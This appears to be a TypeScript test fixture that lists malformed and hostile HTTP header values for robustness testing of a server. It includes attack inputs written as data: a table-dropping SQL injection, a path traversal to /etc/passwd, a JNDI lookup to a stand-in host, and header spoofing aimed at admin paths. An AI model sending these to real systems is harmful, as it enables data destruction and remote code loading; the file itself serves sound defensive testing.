/**
 * Fields of a header that are nonsense, alone or where they are.
 *
 * @module
 */

const LONG = "x".repeat(8_000);
const INJECTION = "' OR 1=1; DROP TABLE person; --";

/** Values that no field means anything by. */
const NONSENSE = ["", "\u00ff", ",", ";", "=", '"', "%00", LONG, INJECTION];

const FIELDS: Readonly<Record<string, readonly string[]>> = {
  "Accept": ["text/html", "*/*;q=nan", "application/json;q=2"],
  "Accept-Encoding": ["identity;q=0, *;q=0"],
  "Accept-Language": ["xx-invalid-"],
  "Authorization": ["Bearer", "Bearer a b", "Basic Og==", "Negotiate x"],
  "Cache-Control": ["no-cache", "max-age=-1", "no-cache=", "only-if-cached"],
  "Content-Encoding": ["gzip", "br, gzip", "identity, identity"],
  "Content-Language": ["-"],
  "Content-Range": ["bytes 0-1/2"],
  "Content-Type": [
    "application/json;charset=utf-16",
    "application/jsonp",
    "text/json",
    "application/merge-patch+json",
    "application/json; charset=utf-8; charset=utf-7",
  ],
  "Cookie": ["id=../../etc/passwd"],
  "Forwarded": ["for=127.0.0.1;host=localhost;proto=https"],
  "If-Match": ["*", "W/", '"', "a,b", '"a" "b"'],
  "If-Modified-Since": ["yesterday", "Thu, 01 Jan 1970 00:00:00 GMT"],
  "If-None-Match": ["W/W/*", '"', "*,*"],
  "Origin": ["null", "https://evil.example", "http://localhost\\@evil"],
  "Prefer": ["return=minimal"],
  "Range": ["bytes=0-", "bytes=-1", "persons=1-2"],
  "Referer": ["http://evil.example/"],
  "Upgrade-Insecure-Requests": ["1"],
  "X-Forwarded-For": ["127.0.0.1"],
  "X-Forwarded-Host": ["evil.example"],
  "X-HTTP-Method-Override": ["DELETE"],
  "X-Original-URL": ["/admin/source"],
  "X-Request-Id": ["a b", "{{7*7}}", "${jndi:ldap://evil}"],
};

/** A field, with a value that means nothing or should have no effect. */
export const BAD_HEADERS: readonly (readonly [name: string, value: string])[] =
  Object.entries(FIELDS).flatMap(([name, values]) =>
    [...values, ...NONSENSE].map((value) => [name, value] as const)
  );
